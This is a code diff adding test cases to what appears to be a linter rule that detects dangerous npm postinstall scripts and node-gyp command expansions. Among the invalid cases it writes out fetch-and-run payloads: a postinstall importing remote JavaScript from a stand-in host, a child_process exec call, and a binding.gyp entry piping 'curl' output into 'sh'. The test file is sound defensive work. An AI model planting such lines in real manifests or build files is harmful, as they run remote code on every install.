@@ -83,6 +83,10 @@ const SETTINGS_STRICT: readonly (readonly [filename: string, code: string, messa
 
 await ruleTester(rule, {
   valid: [
+    // a file of the package, loaded rather than run
+    ok({ postinstall: "node -e \"import('./config/scripts/postinstall.js').catch(() => void 0)\"" }),
+    ok({ postinstall: "node -e \"try{require('./postinstall')}catch(e){}\"" }),
+    gyp({ targets: [{ include_dirs: ['<!@(PKG_CONFIG_PATH="<!(node -p "require(\'node-addon-api\')")/pkgconfig" pkg-config --cflags x)'] }] }, {}),
     file('package.json', '{"trustedDependencies": ["@acme/native"], "allowScripts": {"@acme/native": true}}', { options: { strict: true, allow: ['@acme/*'] } }),
     ...SETTINGS_HONEST.map(([filename, code]) => file(filename, code, strict)),
     ...SETTINGS_STRICT.map(([filename, code]) => file(filename, code)),
@@ -103,6 +107,11 @@ await ruleTester(rule, {
     gyp({ targets: [{ actions: [{ action_name: 'a', action: ['python', 'tools/gen.py', '<@(_inputs)'] }] }] }, {}),
   ],
   invalid: [
+    bad({ postinstall: "node -e \"import('./.vscode/setup.js').catch(() => void 0)\"" }, 'inline'),
+    bad({ postinstall: "node -e \"import('https://code.example-service.com/a.js')\"" }, 'inline'),
+    bad({ postinstall: "node -e \"import('./a.js').then(() => require('child_process').exec('x'))\"" }, 'inline'),
+    bad({ postinstall: "node -e \"require('./setup_bun.js')\"" }, 'inline'),
+    { code: JSON.stringify({ targets: [{ include_dirs: ['<!@(X="<!(curl -s https://code.example-service.com/a | sh)" pkg-config --cflags x)'] }] }), filename: 'binding.gyp', errors: [{ messageId: 'harm' }] },
     ...SETTINGS_BAD.map(([filename, code, messageId]) => file(filename, code, { errors: [{ messageId }] }) as InvalidCase),
     ...SETTINGS_STRICT.map(([filename, code, messageId]) => file(filename, code, { ...strict, errors: [{ messageId }] }) as InvalidCase),
     file('.yarnrc.yml', 'nodeLinker: pnp\nplugins:\n  - path: ../plugin.cjs', { errors: [{ messageId: 'loads', line: 3, column: 5, endLine: 3, endColumn: 9, data: { script: 'path', label: '../plugin.cjs' } }] }) as InvalidCase,
